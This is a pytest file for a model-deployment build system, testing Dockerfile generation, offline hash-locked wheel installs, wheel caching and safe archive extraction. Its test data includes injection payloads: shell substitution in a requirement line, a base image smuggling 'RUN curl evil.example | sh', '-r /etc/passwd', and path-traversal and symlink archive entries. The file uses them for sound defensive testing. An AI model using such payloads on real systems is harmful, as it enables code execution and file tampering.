"""Build context preparation: Dockerfile shape, hermetic wheels, the wheel cache and safe extraction.

No image is built here (the Docker engine is wired elsewhere); the builder stage's install step is
replayed on the host instead, offline, from the context's own files.
"""

from __future__ import annotations

import hashlib
import io
import json
import os
import re
import subprocess
import sys
import tarfile
import zipfile
from pathlib import Path

import pytest

from deployments.imaging.context import (
    BuildContextError,
    BuildSpec,
    PreparedContext,
    extract_archive,
    prepare_context,
    wheel_cache_key,
)

MODEL_PY = """
import numpy as np


class Model:
    def predict(self, inputs):
        return {"doubled": inputs["x"] * 2}
"""
SIGNATURE = {
    "inputs": [{"name": "x", "datatype": "FP64", "shape": [-1]}],
    "outputs": [{"name": "doubled", "datatype": "FP64", "shape": [-1]}],
}


def shell_requirement(marker_dir: Path) -> str:
    # A valid PEP 508 line (the marker is true) full of shell syntax: it must reach pip as data only.
    return f'six; platform_machine != "x$(touch {marker_dir}/a)`touch {marker_dir}/b`|&><;{{}}*"'


def make_spec(artifact: Path, *, requirements: tuple[str, ...] = (), framework: str = "python", **overrides):
    values = {
        "team": "vision",
        "model": "doubler",
        "version": 4,
        "framework": framework,
        "artifact_path": artifact,
        "artifact_name": artifact.name,
        "artifact_sha256": hashlib.sha256(artifact.read_bytes()).hexdigest(),
        "requirements": requirements,
        "signature": SIGNATURE,
        "source_commit": "0123456789abcdef0123456789abcdef01234567",
        "build_id": 991,
        "base_image": "slipway/python:3.11-bookworm",
    }
    values.update(overrides)
    return BuildSpec(**values)


class Prepared:
    def __init__(self, result: PreparedContext, log: list[str], spec: BuildSpec) -> None:
        self.result, self.log, self.spec = result, log, spec
        self.dockerfile = (result.path / result.dockerfile).read_text(encoding="utf-8")


def run_prepare(spec: BuildSpec, workdir: Path, wheel_cache: Path) -> Prepared:
    log: list[str] = []
    result = prepare_context(spec, workdir, wheel_cache=wheel_cache, log=log.append)
    return Prepared(result, log, spec)


@pytest.fixture(scope="module")
def wheel_cache(tmp_path_factory) -> Path:
    return tmp_path_factory.mktemp("wheel-cache")


@pytest.fixture(scope="module")
def marker_dir(tmp_path_factory) -> Path:
    return tmp_path_factory.mktemp("shell-markers")


@pytest.fixture(scope="module")
def requirements(marker_dir) -> tuple[str, ...]:
    return (shell_requirement(marker_dir),)


@pytest.fixture(scope="module")
def model_file(tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("upload") / "doubler.py"
    path.write_text(MODEL_PY, encoding="utf-8")
    path.chmod(0o600)  # uploads are often private; the image's non-root user must still read them
    return path


@pytest.fixture(scope="module")
def prepared(tmp_path_factory, model_file, requirements, wheel_cache) -> Prepared:
    """The first preparation: a cold wheel cache, so pip really runs."""
    return run_prepare(make_spec(model_file, requirements=requirements), tmp_path_factory.mktemp("work"), wheel_cache)


def instructions(dockerfile: str) -> list[str]:
    """Dockerfile instructions with continuation lines joined and comments dropped."""
    joined = re.sub(r"\\\n", " ", dockerfile)
    return [line.strip() for line in joined.splitlines() if line.strip() and not line.lstrip().startswith("#")]


def final_stage(dockerfile: str) -> list[str]:
    lines = instructions(dockerfile)
    last_from = max(i for i, line in enumerate(lines) if line.upper().startswith("FROM "))
    return lines[last_from:]


# --- the Dockerfile -------------------------------------------------------------------------------


def test_dockerfile_uses_classic_builder_syntax_only(prepared):
    dockerfile = prepared.dockerfile
    assert "--mount" not in dockerfile
    assert "--link" not in dockerfile
    assert "<<" not in dockerfile  # heredocs
    assert not re.search(r"^#\s*syntax\s*=", dockerfile, re.MULTILINE | re.IGNORECASE)
    froms = [line for line in instructions(dockerfile) if line.startswith("FROM ")]
    assert froms == ["FROM slipway/python:3.11-bookworm AS builder", "FROM slipway/python:3.11-bookworm"]


def test_final_stage_runs_as_non_root_with_exec_form_cmd(prepared):
    stage = final_stage(prepared.dockerfile)
    users = [line.split(None, 1)[1] for line in stage if line.startswith("USER ")]
    assert users, "the final stage must set a USER"
    assert users[-1].split(":")[0] == "10001"
    cmd = [line for line in stage if line.startswith("CMD ")][-1]
    assert json.loads(cmd[len("CMD ") :]) == ["python", "-m", "serving"]
    assert any(line.startswith("ENV ") and "PATH=/opt/venv/bin:$PATH" in line for line in stage)


def test_layers_go_dependencies_then_runtime_then_model(prepared):
    stage = final_stage(prepared.dockerfile)
    copies = [line for line in stage if line.startswith("COPY ")]
    assert copies == [
        "COPY --from=builder /opt/venv /opt/venv",
        "COPY runtime/serving/ /opt/slipway/serving/",
        "COPY model/ /opt/slipway/model/",
    ]
    file_system_changes = [line for line in stage if line.split()[0] in ("COPY", "ADD", "RUN")]
    assert file_system_changes[-1] == "COPY model/ /opt/slipway/model/"
    builder = instructions(prepared.dockerfile)[: instructions(prepared.dockerfile).index(stage[0])]
    assert any("pip install --no-index" in line and "--require-hashes" in line for line in builder)


def test_per_build_labels_are_data_not_dockerfile_lines(prepared):
    labels = prepared.result.labels
    assert labels["io.slipway.model"] == "doubler"
    assert labels["io.slipway.version"] == "4"
    assert labels["io.slipway.build-id"] == "991"
    assert labels["io.slipway.source-commit"] == prepared.spec.source_commit
    assert labels["io.slipway.artifact-sha256"] == prepared.spec.artifact_sha256
    assert labels["org.opencontainers.image.revision"] == prepared.spec.source_commit
    assert "org.opencontainers.image.created" not in labels
    assert all(isinstance(value, str) for value in labels.values())
    assert not [line for line in instructions(prepared.dockerfile) if line.upper().startswith("LABEL")]
    assert "991" not in prepared.dockerfile
    assert prepared.spec.source_commit not in prepared.dockerfile


def test_context_holds_only_what_the_image_needs(prepared):
    context = prepared.result.path
    top = sorted(p.name for p in context.iterdir())
    assert top == ["Dockerfile", "model", "requirements.lock", "runtime", "wheels"]
    assert sorted(p.name for p in (context / "model").iterdir()) == ["model.py", "slipway.json"]
    assert (context / "model" / "model.py").stat().st_mode & 0o777 == 0o644
    config = json.loads((context / "model" / "slipway.json").read_text())
    assert config == {
        "name": "doubler",
        "version": "4",
        "framework": "python",
        "artifact": ".",
        "signature": SIGNATURE,
    }


# --- requirements and wheels ----------------------------------------------------------------------


def test_requirement_with_shell_metacharacters_stays_data(prepared, wheel_cache, marker_dir, requirements):
    (line,) = requirements
    context = prepared.result.path
    assert not list(marker_dir.iterdir()), "a shell ran the requirement line"
    assert line not in prepared.dockerfile
    assert line not in (context / "requirements.lock").read_text()
    # pip evaluated the (true) marker, so the requirement did its job as data.
    assert "six" in {item["name"] for item in prepared.result.bill_of_materials}
    recorded = [p.read_text() for p in wheel_cache.rglob("requirements.in")]
    assert recorded and all(line in text.splitlines() for text in recorded)


@pytest.mark.parametrize(
    "bad",
    [
        "--index-url https://example.invalid/simple",
        "-r /etc/passwd",
        "numpy --global-option=x",
        "a\nb",
        "x @ file:///etc",
    ],
)
def test_pip_options_are_refused_before_pip_runs(tmp_path, model_file, bad):
    spec = make_spec(model_file, requirements=(bad,))
    log: list[str] = []

    with pytest.raises(BuildContextError, match="requirement"):
        prepare_context(spec, tmp_path / "work", wheel_cache=tmp_path / "cache", log=log.append)

    assert not (tmp_path / "cache").exists()


def test_bill_of_materials_lists_every_wheel_with_its_sha256(prepared):
    context = prepared.result.path
    bill = prepared.result.bill_of_materials
    wheel_files = sorted(p.name for p in (context / "wheels").glob("*.whl"))
    assert sorted(item["filename"] for item in bill) == wheel_files
    assert {"numpy", "six"} <= {item["name"] for item in bill}  # numpy: the python framework's base
    for item in bill:
        assert item["sha256"] == hashlib.sha256((context / "wheels" / item["filename"]).read_bytes()).hexdigest()
        assert item["filename"].startswith(item["name"].replace("-", "_") + "-" + item["version"] + "-")
    lock_lines = [line for line in (context / "requirements.lock").read_text().splitlines() if not line.startswith("#")]
    assert sorted(lock_lines) == sorted(f"{i['name']}=={i['version']} --hash=sha256:{i['sha256']}" for i in bill)


def test_lock_installs_offline_from_the_context_wheels(prepared):
    context = prepared.result.path
    command = [
        sys.executable, "-m", "pip", "install", "--dry-run", "--ignore-installed", "--no-index",
        "--find-links", str(context / "wheels"), "--require-hashes", "-r", str(context / "requirements.lock"),
    ]  # fmt: skip
    # The host's pip configuration (extra indexes, find-links) must not help: the image has none.
    env = {**os.environ, "PIP_CONFIG_FILE": os.devnull}

    result = subprocess.run(command, capture_output=True, text=True, env=env, timeout=120, check=False)

    assert result.returncode == 0, result.stdout + result.stderr
    assert "Would install" in result.stdout


def test_context_files_serve_with_the_runtime(prepared, start_server):
    context = prepared.result.path
    # The runtime package copied into the context, on the model folder as laid out for the image.
    server = start_server(context / "model", runtime_root=context / "runtime")
    server.wait_ready()

    answer = server.post("/v2/models/doubler/versions/4/infer", {
        "inputs": [{"name": "x", "shape": [3], "datatype": "FP64", "data": [1, 2, 3.5]}],
    })  # fmt: skip

    assert answer.status_code == 200, answer.text
    assert answer.json()["outputs"] == [{"name": "doubled", "shape": [3], "datatype": "FP64", "data": [2, 4, 7]}]


def test_wheel_cache_hit_does_not_run_pip(prepared, tmp_path, model_file, requirements, wheel_cache):
    assert any(line.startswith("Saved ") for line in prepared.log), "the first preparation should run pip"

    again = run_prepare(make_spec(model_file, requirements=requirements, build_id=992), tmp_path, wheel_cache)

    assert any("cache hit" in line for line in again.log)
    assert not any(line.startswith(("Collecting", "Saved", "Successfully downloaded")) for line in again.log)
    assert again.result.bill_of_materials == prepared.result.bill_of_materials
    # Hard links to the same cached files: nothing was downloaded a second time.
    for item in again.result.bill_of_materials:
        first = (prepared.result.path / "wheels" / item["filename"]).stat()
        second = (again.result.path / "wheels" / item["filename"]).stat()
        assert (first.st_dev, first.st_ino) == (second.st_dev, second.st_ino)
    assert again.dockerfile == prepared.dockerfile  # same dependencies, same cacheable layers


def test_cache_key_depends_on_the_requirement_set_not_its_order():
    assert wheel_cache_key("python", ("six", "attrs")) == wheel_cache_key("python", ("attrs", "six"))
    assert wheel_cache_key("python", ("six",)) != wheel_cache_key("python", ("six==1.16.0",))
    assert wheel_cache_key("python", ("scikit-learn", "joblib")) == wheel_cache_key("sklearn", ())
    assert wheel_cache_key("onnx", ()) != wheel_cache_key("python", ())


def test_unresolvable_requirement_names_itself_and_caches_nothing(tmp_path, model_file):
    spec = make_spec(model_file, requirements=("slipway-no-such-package-7f3a==9.9.9",))
    cache = tmp_path / "cache"

    with pytest.raises(BuildContextError) as failure:
        prepare_context(spec, tmp_path / "work", wheel_cache=cache, log=lambda line: None)

    message = str(failure.value)
    assert message.startswith("requirement 'slipway-no-such-package-7f3a==9.9.9' could not be resolved")
    assert "\n" not in message
    assert not [p for p in cache.iterdir()], "a failed download must not leave a cache entry"


def test_invalid_base_image_is_refused(tmp_path, model_file):
    spec = make_spec(model_file, base_image="python:3.11\nRUN curl evil.example | sh")
    with pytest.raises(BuildContextError, match="base image"):
        prepare_context(spec, tmp_path, wheel_cache=tmp_path / "cache", log=lambda line: None)


# --- archives -------------------------------------------------------------------------------------


def make_tar(path: Path, entries: dict[str, bytes], links: dict[str, str] | None = None) -> Path:
    with tarfile.open(path, "w:gz") as tar:
        for name, content in entries.items():
            info = tarfile.TarInfo(name)
            info.size = len(content)
            info.mode = 0o600
            tar.addfile(info, io.BytesIO(content))
        for name, target in (links or {}).items():
            info = tarfile.TarInfo(name)
            info.type = tarfile.SYMTYPE
            info.linkname = target
            tar.addfile(info)
    return path


def make_zip(path: Path, entries: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w") as bundle:
        for name, content in entries.items():
            bundle.writestr(name, content)
    return path


@pytest.mark.parametrize(
    ("entries", "links", "fragment"),
    [
        ({"../evil.txt": b"x"}, None, "outside"),
        ({"model/../../evil.txt": b"x"}, None, "outside"),
        ({"/tmp/evil.txt": b"x"}, None, "absolute"),
        ({"model.py": b""}, {"escape": "../../etc/passwd"}, "outside"),
        ({"model.py": b""}, {"rooted": "/etc/passwd"}, "outside"),
    ],
)
def test_tar_entries_escaping_the_archive_are_refused(tmp_path, entries, links, fragment):
    archive = make_tar(tmp_path / "bad.tar.gz", entries, links)
    dest = tmp_path / "deep" / "dest"

    with pytest.raises(BuildContextError, match=fragment):
        extract_archive(archive, archive.name, dest)

    assert not (tmp_path / "evil.txt").exists()
    assert not (tmp_path / "deep" / "evil.txt").exists()
    assert not list(dest.rglob("*"))  # refused before anything was written


@pytest.mark.parametrize("name", ["../evil.txt", "a/../../evil.txt", "/abs/evil.txt"])
def test_zip_entries_escaping_the_archive_are_refused(tmp_path, name):
    archive = make_zip(tmp_path / "bad.zip", {"ok.txt": b"fine", name: b"x"})
    dest = tmp_path / "deep" / "dest"

    with pytest.raises(BuildContextError, match=r"outside|absolute"):
        extract_archive(archive, archive.name, dest)

    assert not (tmp_path / "evil.txt").exists()
    assert not (tmp_path / "deep" / "evil.txt").exists()


def test_links_inside_the_archive_are_kept(tmp_path):
    archive = make_tar(tmp_path / "ok.tgz", {"pkg/weights.bin": b"w"}, {"pkg/current": "weights.bin"})
    extract_archive(archive, archive.name, tmp_path / "dest")
    assert (tmp_path / "dest" / "pkg" / "current").read_bytes() == b"w"


def test_archive_with_parent_entry_fails_the_whole_preparation(tmp_path):
    archive = make_tar(tmp_path / "model.tar.gz", {"model.py": MODEL_PY.encode(), "../../planted.txt": b"x"})

    with pytest.raises(BuildContextError, match="outside"):
        prepare_context(make_spec(archive), tmp_path / "work", wheel_cache=tmp_path / "cache", log=lambda _: None)

    assert not list(tmp_path.rglob("planted.txt"))


def test_python_archive_in_a_folder_is_served_from_that_folder(tmp_path, requirements, wheel_cache):
    archive = make_tar(tmp_path / "bundle.tar.gz", {"bundle/model.py": MODEL_PY.encode(), "bundle/extra.txt": b"1"})

    prepared = run_prepare(make_spec(archive, requirements=requirements), tmp_path / "work", wheel_cache)

    model_dir = prepared.result.path / "model"
    assert json.loads((model_dir / "slipway.json").read_text())["artifact"] == "bundle"
    assert (model_dir / "bundle" / "extra.txt").stat().st_mode & 0o777 == 0o644
    assert any("cache hit" in line for line in prepared.log)


@pytest.mark.parametrize(
    ("framework", "entries", "fragment"),
    [
        ("sklearn", {"a.joblib": b"1", "b.pkl": b"2"}, "exactly one"),
        ("onnx", {"readme.txt": b"1"}, "exactly one .onnx"),
        ("python", {"lib/helpers.py": b""}, "model.py"),
        ("python", {"slipway.json": b"{}", "model.py": b""}, "slipway.json"),
    ],
)
def test_archive_without_a_clear_artifact_is_refused(tmp_path, framework, entries, fragment):
    archive = make_tar(tmp_path / "model.tgz", entries)
    spec = make_spec(archive, framework=framework)

    with pytest.raises(BuildContextError, match=fragment):
        prepare_context(spec, tmp_path / "work", wheel_cache=tmp_path / "cache", log=lambda _: None)

    assert not (tmp_path / "cache").exists()  # refused before any download


def test_custom_framework_uses_the_archive_as_the_context(tmp_path):
    dockerfile = b"FROM scratch\nCOPY app /app\n"
    archive = make_zip(tmp_path / "custom.zip", {"Dockerfile": dockerfile, "app/run.sh": b"#!/bin/sh\n"})
    log: list[str] = []

    result = prepare_context(
        make_spec(archive, framework="custom", signature={}), tmp_path / "work", wheel_cache=tmp_path / "cache",
        log=log.append,
    )  # fmt: skip

    assert result.dockerfile == "Dockerfile"
    assert result.bill_of_materials == []
    assert (result.path / "Dockerfile").read_bytes() == dockerfile
    assert sorted(p.relative_to(result.path).as_posix() for p in result.path.rglob("*")) == [
        "Dockerfile", "app", "app/run.sh",
    ]  # fmt: skip
    assert result.labels["io.slipway.framework"] == "custom"
    assert not (tmp_path / "cache").exists()


@pytest.mark.parametrize(
    ("name", "entries"), [("custom.zip", {"app/Dockerfile": b"FROM scratch\n"}), ("Dockerfile", None)]
)
def test_custom_framework_needs_an_archive_with_a_root_dockerfile(tmp_path, name, entries):
    if entries is None:
        artifact = tmp_path / name
        artifact.write_text("FROM scratch\n")
    else:
        artifact = make_zip(tmp_path / name, entries)

    with pytest.raises(BuildContextError, match="Dockerfile"):
        prepare_context(
            make_spec(artifact, framework="custom"), tmp_path / "work", wheel_cache=tmp_path / "c", log=lambda _: None
        )


def test_context_module_imports_no_django():
    modules = "deployments.imaging.context, deployments.imaging.engine, deployments.imaging.smoke"
    code = f"import sys, {modules}; print(sorted(m for m in sys.modules if m.startswith('django')))"
    repo_root = Path(__file__).resolve().parents[2]

    result = subprocess.run(
        [sys.executable, "-c", code], cwd=repo_root, capture_output=True, text=True, timeout=60, check=True
    )

    assert result.stdout.strip() == "[]"
